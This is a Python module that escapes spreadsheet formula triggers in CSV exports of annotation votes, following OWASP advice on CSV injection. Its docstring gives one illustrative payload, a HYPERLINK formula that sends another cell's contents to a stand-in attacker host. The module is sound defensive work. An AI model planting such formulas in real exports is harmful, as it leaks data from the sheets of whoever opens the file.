"""CSV that is safe to open in a spreadsheet: the one way the site writes CSV (the votes export of the
dashboard, the API and `export_votes` all go through it, via dashboard.exports.iter_csv).

Why: researchers open exports in Excel, LibreOffice or Google Sheets, and those evaluate a cell that
starts with `=`, `+`, `-` or `@` (and, in some, a tab or carriage return) as a formula. Annotators
write rationales, and system, instance and annotator names come from imported files, so a rationale
like `=HYPERLINK("http://evil.example/?x="&B2,"Click")` would become a live link that sends other
cells of the sheet away when clicked (or, with DDE, worse). Following OWASP's advice on CSV injection,
such a text cell gets a leading apostrophe, which spreadsheets take to mean "this is text": the cell
shows the text and is never evaluated.

What that means when the file is read back: the apostrophe is part of the cell's value. A program
(pandas, `import_votes`, `leaderboard --from-csv`) reading an escaped cell sees `'=HYPERLINK(...)`, one
character longer than what was stored; `unescape_cell` gives the original back (it strips the one
apostrophe this module adds, and only in front of a trigger character, so a stored text that really
begins with an apostrophe followed by a trigger is the one ambiguous case). A spreadsheet that saves
the file again may drop the apostrophe, and the saved cell is then a formula again: escape it anew
before anyone opens it.

Numbers the site writes itself (int, float) are left alone: `-0.25` is a number, not a formula, and
must stay one. Only str cells are escaped, so the string "-0.25" (say, a system named so) is.
"""
from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    import _csv

    from _typeshed import SupportsWrite

# OWASP, "CSV Injection": cells beginning with these are interpreted as formulas by some spreadsheet.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
ESCAPE = "'"


def escape_cell(value: Any) -> Any:
    """The value to write: a str starting with a formula trigger gets a leading apostrophe."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return ESCAPE + value
    return value


def unescape_cell(text: str) -> str:
    """The stored text of a cell read back from a file this module wrote (see the module docstring)."""
    if text.startswith(ESCAPE) and text[1:].startswith(FORMULA_TRIGGERS):
        return text[1:]
    return text


class SafeWriter:
    """csv.writer with every cell passed through `escape_cell` (same constructor and methods)."""

    def __init__(self, f: SupportsWrite[str], *args: Any, **kwargs: Any) -> None:
        self._writer = csv.writer(f, *args, **kwargs)

    def writerow(self, row: Iterable[Any]) -> Any:  # what csv.writer's writerow returns
        return self._writer.writerow([escape_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)

    @property
    def dialect(self) -> _csv.Dialect:
        return self._writer.dialect


def writer(f: SupportsWrite[str], *args: Any, **kwargs: Any) -> SafeWriter:
    """Drop-in for csv.writer."""
    return SafeWriter(f, *args, **kwargs)
